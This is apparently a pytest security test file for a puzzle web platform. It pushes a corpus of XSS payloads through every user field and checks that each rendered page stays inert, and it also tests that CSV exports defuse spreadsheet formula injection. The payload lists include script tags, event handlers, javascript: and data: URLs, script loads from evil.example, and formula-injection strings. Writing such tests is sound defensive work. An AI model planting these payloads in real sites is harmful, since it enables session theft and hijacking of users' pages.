"""XSS: a corpus of payloads pushed through every field a user can write that a page shows,
then every page that shows it, as the scholar and the mentor, checked to be inert.

Fields: a puzzle's title, summary, statement, answer, figure title, question prompts, units,
choices and text truths (through the mentor's web form and through a puzzle folder), display
names (registration and profile), discussion posts, the reason a post was hidden, cohort
names, API token names, mentors' override reasons, text answers and a refused numeric answer
(echoed back in the error), and the mentor's live Markdown preview.

"Inert" is checked on the parsed HTML (stdlib html.parser): no on* attribute, no script but
JSON data blocks (which must still parse as JSON) and the site's own files, no javascript:,
vbscript: or data: URL, no iframe/object/embed/base/frame/style/meta refresh, no link or form
pointing off-site, and inside user content (rendered Markdown) no form controls, forms or
style attributes.
"""
from __future__ import annotations

import csv
import html
import io
import json
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
import sqlalchemy as sa

from puzzle_platform.markdown import render_markdown
from tests.helpers import csrf_token, iso
from tests.security.conftest import LIVE, REVEALED, client_as

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<form action=//evil.example><input name=csrf_token><button>go</button></form>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script><!--",
    "<details open ontoggle=alert(1)>x</details>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1)) [tab](java\tscript:alert(1)) [sp]( javascript:alert(1))",
    "[entity](&#106;avascript:alert(1)) [hex](&#x6A;avascript:alert(1)) [t](java&#x09;script:alert(1))",
    "[vb](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1)) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[reference link][x]\n\n[x]: javascript:alert(1)\n\n![ref image][y]\n\n[y]: data:text/html,x",
    "<javascript:alert(1)> <a href=\"javascript:alert(1)\">a</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "$\\href{javascript:alert(1)}{x}$ $$\\href{javascript:alert(1)}{y}$$",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi><maction actiontype=statusline>y</maction></math>",
    "::: spoiler <img src=x onerror=alert(1)>\nhidden <script>alert(1)</script>\n:::",
    "`<script>alert(1)</script>` and <!-- <script>alert(1)</script> -->",
]

# Containers of rendered user Markdown (and the editor's preview boxes).
ZONE_CLASSES = {"statement", "prompt", "answer-text", "post-body", "md-preview"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "style"}
NOT_IN_ZONES = {"form", "input", "button", "textarea", "select", "option", "script", "link", "meta", "title"}
URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "data", "poster", "background",
             "cite", "longdesc", "codebase", "manifest", "usemap", "lowsrc", "dynsrc"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param",
        "source", "track", "wbr"}


def bad_scheme(value: str | None) -> bool:
    """javascript:, vbscript: or data:, once whitespace and control characters are gone."""
    clean = "".join(ch for ch in (value or "") if ch > " " and ch != "\x7f").lower()
    return clean.startswith(("javascript:", "vbscript:", "data:"))


def same_site(value: str | None) -> bool:
    parts = urlsplit((value or "").strip())
    return parts.scheme in ("", "http", "https") and parts.netloc in ("", "localhost")


class InertCheck(HTMLParser):
    """Collects every way a parsed page could run script or pull in foreign content."""

    def __init__(self, whole_fragment_is_user_content: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[tuple[str, bool]] = [("#fragment", whole_fragment_is_user_content)]
        self.json_block: list[str] | None = None

    def in_zone(self) -> bool:
        return any(zone for _, zone in self.stack)

    def _element(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        say = self.problems.append
        for name, value in attrs:
            if name.startswith("on"):
                say(f"<{tag} {name}=...>: event handler")
            if name in URL_ATTRS and bad_scheme(value):
                say(f"<{tag} {name}={value!r}>: script/data URL")
            if name == "srcdoc" or (name == "style" and self.in_zone()):
                say(f"<{tag} {name}=...> in user content")
        if tag in FORBIDDEN_TAGS:
            say(f"<{tag}> element")
        if tag == "meta" and "http-equiv" in a:
            say("<meta http-equiv>")
        if tag in NOT_IN_ZONES and self.in_zone():
            say(f"<{tag}> inside user content")
        if tag == "link" and not same_site(a.get("href")):
            say(f"<link href={a.get('href')!r}> off-site")
        if tag == "form" and not same_site(a.get("action")):
            say(f"<form action={a.get('action')!r}> off-site")
        if tag == "script":
            src, kind = a.get("src"), (a.get("type") or "").lower()
            if src is None and kind == "application/json":
                self.json_block = []
            elif src is None or not src.startswith(("/static/", "/vendor/")) or kind not in ("", "text/javascript"):
                say(f"<script src={src!r} type={kind!r}>")

    def handle_starttag(self, tag, attrs):
        self._element(tag, attrs)
        if tag not in VOID:
            classes = set((dict(attrs).get("class") or "").split())
            self.stack.append((tag, bool(classes & ZONE_CLASSES)))

    def handle_startendtag(self, tag, attrs):
        self._element(tag, attrs)

    def handle_data(self, data):
        if self.json_block is not None:
            self.json_block.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self.json_block is not None:
            try:
                json.loads("".join(self.json_block))
            except ValueError:
                self.problems.append("a JSON data block no longer parses (broken out of?)")
            self.json_block = None
        for i in range(len(self.stack) - 1, 0, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break


def problems(markup: str, fragment: bool = False) -> list[str]:
    check = InertCheck(whole_fragment_is_user_content=fragment)
    check.feed(markup)
    check.close()
    return check.problems


def test_the_check_catches_live_markup():
    """The checker itself: each of these must be reported."""
    for bad in ('<img src=x onerror=alert(1)>', '<a href=" jav&#x09;ascript:alert(1)">x</a>',
                '<script>alert(1)</script>', '<script src="//evil.example/x.js"></script>',
                '<iframe></iframe>', '<style>*{}</style>', '<svg><a xlink:href="javascript:x">y</a></svg>',
                '<meta http-equiv="refresh" content="0">', '<div class="post-body"><form></form></div>',
                '<div class="statement"><p style="x">y</p></div>', '<a href="DATA:text/html,x">z</a>',
                '<script type="application/json">{"a": 1}</script><script>alert(1)</script>',
                '<script type="application/json">{"a": "</script>'):
        assert problems(bad), bad
    assert problems('<script type="application/json">{"a": "\\u003c/script\\u003e"}</script>'
                    '<script src="/static/app.js"></script><form method="post" action="/x"></form>') == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_renderer_output_is_inert(payload):
    """The one renderer of user Markdown, directly: every payload, alone and embedded."""
    for text in (payload, f"Intro *text*.\n\n{payload}\n\n- item {payload}\n\n> {payload}"):
        assert problems(str(render_markdown(text)), fragment=True) == []


def toml_str(text: str) -> str:
    """A TOML basic string (JSON's escapes are TOML's; DEL must be escaped too)."""
    return json.dumps(text).replace("\x7f", "\\u007f")


def spec_toml(p: str) -> str:
    """A figure and one question of each kind, every free-text field carrying the payload."""
    s = toml_str
    return f"""
[[figures]]
key = "fig"
title = {s(p[:200])}
recipe = "embedding_cosine"
params = {{ model = "models:tiny", weights = "raw" }}

[[questions]]
key = "q_num"
prompt = {s(p)}
kind = "numeric"
grader = "abs_tol"
grader_params = {{ tolerance = 0.1 }}
truth = 0.5
unit = {s(p[:32])}

[[questions]]
key = "q_choice"
prompt = {s(p)}
kind = "choice"
grader = "choice"
choices = [{s(p[:200])}, "ok"]
truth = "ok"

[[questions]]
key = "q_text"
prompt = {s(p)}
kind = "text"
grader = "exact_text"
truth = {s(p[:200])}
"""


def schedule(state: str) -> dict[str, datetime]:
    now, day = datetime.now(timezone.utc).replace(microsecond=0), timedelta(days=1)
    release, deadline, reveal = {"live": (now - day, now + day, now + 2 * day),
                                 "revealed": (now - 3 * day, now - 2 * day, now - day)}[state]
    return {"release_at": release, "deadline_at": deadline, "reveal_at": reveal}


def write_files_puzzle(root, p: str) -> None:
    """A live puzzle folder (so scholars see its choices in the answer form)."""
    folder = root / "51-xss-files"
    folder.mkdir()
    times = "".join(f'{k} = "{iso(v)}"\n' for k, v in schedule("live").items())
    (folder / "puzzle.toml").write_text(
        f"title = {toml_str(p[:200])}\nsummary = {toml_str(p[:500])}\n{times}{spec_toml(p)}", encoding="utf-8")
    (folder / "statement.md").write_text(p, encoding="utf-8")
    (folder / "answer.md").write_text(p, encoding="utf-8")


def web_puzzle_form(p: str) -> dict[str, str]:
    """A revealed web puzzle (so scholars see its answer and truths)."""
    times = {k: v.strftime("%Y-%m-%dT%H:%M:%S") for k, v in schedule("revealed").items()}
    return {"number": "50", "slug": "xss-web", "title": p[:200], "summary": p[:500], "statement_md": p,
            "answer_md": p, "tz": "UTC", "spec_toml": spec_toml(p), **times}


def ids(app, xss_user: str) -> dict[str, object]:
    from puzzle_platform.extensions import db
    from puzzle_platform.models import Cohort, Post, Question, Submission, User

    with app.app_context():
        user = db.session.scalar(sa.select(User).where(User.username == xss_user))
        word = db.session.scalar(sa.select(Submission.id).join(Question, Question.id == Submission.question_id)
                                 .where(Submission.user_id == user.id, Question.key == "word"))
        posts = db.session.scalars(sa.select(Post.id).where(Post.user_id == user.id).order_by(Post.id)).all()
        code = db.session.scalar(sa.select(Cohort.invite_code).where(Cohort.slug == "xss-cohort"))
        return {"word": word, "posts": posts, "code": code}


class Browser:
    """A test client that keeps its session's CSRF token (one page load, not one per form)."""

    def __init__(self, client) -> None:
        self.client, self._token = client, None

    def post(self, url: str, data: dict, expect: int):
        if self._token is None:
            self._token = csrf_token(self.client, "/login")
        resp = self.client.post(url, data={"csrf_token": self._token, **data})
        assert resp.status_code == expect, f"POST {url}: {resp.status_code} {resp.get_data(as_text=True)[:2000]}"
        if url in ("/register", "/login"):
            self._token = None  # a new session after logging in
        return resp


def plant(app, runner, puzzles_dir, p: str) -> tuple[dict, list[tuple[str, str]], dict[str, Browser]]:
    """Write the payload into every field; return the ids, the responses that echo it and
    the browsers of xssuser (who registered with it), sam and the mentor."""
    echoes = []
    scholar = Browser(app.test_client())
    scholar.post("/register", {"username": "xssuser", "display_name": p[:64], "email": "x@example.org",
                               "password": "a long unusual passphrase",
                               "confirm": "a long unusual passphrase"}, 302)
    scholar.post(f"/puzzles/{LIVE}/questions/mean", {"value": "0.5"}, 303)
    scholar.post(f"/puzzles/{LIVE}/questions/word", {"text": p[:1000]}, 303)
    echoes.append(("refused answer", scholar.post(f"/puzzles/{LIVE}/questions/lit", {"value": p}, 400)
                   .get_data(as_text=True)))
    echoes.append(("new token", scholar.post("/profile/tokens", {"name": p[:64]}, 201).get_data(as_text=True)))
    for _ in range(2):
        scholar.post(f"/puzzles/{REVEALED}/discussion", {"body": p}, 303)
    sam = Browser(client_as(app, "scholar"))
    sam.post("/profile/display-name", {"display_name": p[:64]}, 303)

    mentor = Browser(client_as(app, "mentor"))
    resp = mentor.client.post("/mentor/preview", json={"markdown": p},
                              headers={"X-CSRFToken": csrf_token(mentor.client, "/login")})
    assert resp.status_code == 200
    echoes.append(("preview fragment", resp.get_json()["html"]))
    mentor.post("/mentor/puzzles/new", web_puzzle_form(p), 303)
    mentor.post("/mentor/puzzles/xss-web/publish", {"confirm": "1", "override": "1"}, 303)
    write_files_puzzle(puzzles_dir, p)
    result = runner.invoke(args=["puzzles", "sync"])
    assert result.exit_code == 0, result.output
    mentor.post("/cohorts", {"name": p[:128], "slug": "xss-cohort", "private": "1"}, 303)
    found = ids(app, "xssuser")
    scholar.post(f"/cohorts/join/{found['code']}", {}, 303)
    mentor.post(f"/mentor/submissions/{found['word']}/override", {"points": "3", "reason": p[:1000]}, 303)
    mentor.post(f"/puzzles/{REVEALED}/discussion/posts/{found['posts'][1]}/hide", {"reason": p[:500]}, 303)
    return found, echoes, {"xssuser": scholar, "sam": sam, "mentor": mentor}


def pages_to_render(code: str) -> dict[str, list[str]]:
    """Every page that shows a planted field, for each viewer that sees something different
    (anonymous visitors see a subset of the scholar's pages)."""
    m = f"/mentor/puzzles/{LIVE}/questions"
    return {
        "xssuser": ["/", "/leaderboard", f"/leaderboard?puzzle={LIVE}", "/leaderboard?cohort=xss-cohort",
                    "/leaderboard?puzzle=xss-web", "/puzzles/xss-web", "/puzzles/xss-web/discussion",
                    "/puzzles/xss-files", f"/puzzles/{LIVE}", f"/puzzles/{REVEALED}/discussion",
                    "/cohorts", f"/cohorts/join/{code}", "/profile", "/calibration", "/feed.atom"],
        "sam": ["/leaderboard?cohort=beta", "/calibration", f"/puzzles/{REVEALED}/discussion"],
        "mentor": ["/puzzles/xss-files", f"/puzzles/{REVEALED}/discussion", "/cohorts", f"/cohorts/join/{code}",
                   "/mentor", "/mentor/puzzles/xss-web", "/mentor/puzzles/xss-web/edit",
                   "/mentor/puzzles/xss-web/preview", "/mentor/puzzles/xss-web/questions/q_text/submissions",
                   f"{m}/mean/submissions", f"{m}/word/submissions", f"{m}/lit/submissions",
                   "/cohorts/xss-cohort", "/cohorts/beta/calibration", "/cohorts/xss-cohort/calibration",
                   "/calibration/sam", "/calibration/xssuser"],
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_on_every_page(app, runner, puzzles_dir, payload):
    found, echoes, browsers = plant(app, runner, puzzles_dir, payload)
    report = [f"{where}: {problem}" for where, body in echoes
              for problem in problems(body, fragment=where == "preview fragment")]
    for who, urls in pages_to_render(found["code"]).items():
        for url in urls:
            resp = browsers[who].client.get(url)
            assert resp.status_code == 200, f"{who} GET {url}: {resp.status_code}"
            body = resp.get_data(as_text=True)
            report += [f"{who} {url}: {problem}" for problem in problems(body)]
            if url == "/feed.atom":  # still well-formed XML: no element came from a title
                ElementTree.fromstring(resp.data)
            if url == "/leaderboard":  # the payload really reached the pages
                assert payload[:64].strip() in html.unescape(body)
    assert report == []


FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1)", "=1|cmd"]


def test_csv_exports_defuse_spreadsheet_formulas(app):
    """Display names, text answers and override reasons that look like formulas are not
    formulas in the mentors' CSV files (leaderboard and attempts)."""
    for i, formula in enumerate(FORMULAS):
        scholar = Browser(app.test_client())
        scholar.post("/register", {"username": f"csv{i}", "display_name": formula, "email": f"csv{i}@example.org",
                                    "password": "a long unusual passphrase",
                                    "confirm": "a long unusual passphrase"}, 302)
        scholar.post(f"/puzzles/{LIVE}/questions/word", {"text": formula}, 303)
        scholar.post(f"/puzzles/{LIVE}/questions/mean", {"value": "0.5"}, 303)
    mentor = client_as(app, "mentor")
    cells = []
    for url in ("/leaderboard.csv", f"/mentor/puzzles/{LIVE}/submissions.csv"):
        resp = mentor.get(url)
        assert resp.status_code == 200
        cells += [cell for row in csv.reader(io.StringIO(resp.get_data(as_text=True))) for cell in row]
    assert sum(cell.lstrip("'") in FORMULAS for cell in cells) >= 2 * len(FORMULAS)  # they are there
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not c.lstrip("-").replace(".", "", 1).isdigit()] == []
